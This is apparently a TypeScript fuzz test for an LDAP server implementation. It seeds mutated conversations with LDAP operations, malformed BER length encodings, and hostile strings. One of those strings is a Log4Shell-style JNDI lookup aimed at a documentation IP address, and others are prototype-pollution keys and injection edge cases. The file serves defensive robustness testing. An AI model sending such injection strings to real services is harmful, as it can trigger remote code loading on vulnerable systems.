import { test } from 'node:test'
import { fuzzConversations } from '#services/testing/fuzz.ts'
import ldap from './index.ts'
import * as l from './testing.ts'

const S = 'dc=hayase-works,dc=example'
const message = (op: Buffer) => Buffer.from(l.message(7, op), 'latin1')
const words = [
  message(l.searchOp({ base: S, filter: l.or(l.like('cn', '*a*b'), l.matching('caseExactMatch', 'cn', 'x', true)) })),
  message(l.renameOp(`ou=people,${S}`, 'ou=x', true, `ou=groups,${S}`)),
  message(l.modifyOp(`uid=haruto,ou=people,${S}`, [[l.MOD.increment, 'uidNumber', ['5']]])),
  message(l.deleteOp(`ou=people,${S}`)),
  l.seq(l.octets('1.2.840.113556.1.4.319'), l.yes, l.octets('\x30\x05\x02\x01\x01\x04\x00')),
  Buffer.from([0x30, 0x84, 0, 0, 0, 0x10]),
  Buffer.from([0x30, 0x80]),
  Buffer.from([0xa0, 0x82, 0xff, 0xff]),
  Buffer.from([0x02, 0x04, 0xff, 0xff, 0xff, 0xff]),
  '__proto__=x',
  'constructor',
  'cn=a+sn=b,',
  '\\2c\\',
  '$' + '{jndi:ldap://192.0.2.1/a}',
  '\0',
  '*',
]

test('mutated conversations end in a named way', { timeout: 900_000 }, () =>
  fuzzConversations(ldap, { folder: import.meta.dirname, words }),
)
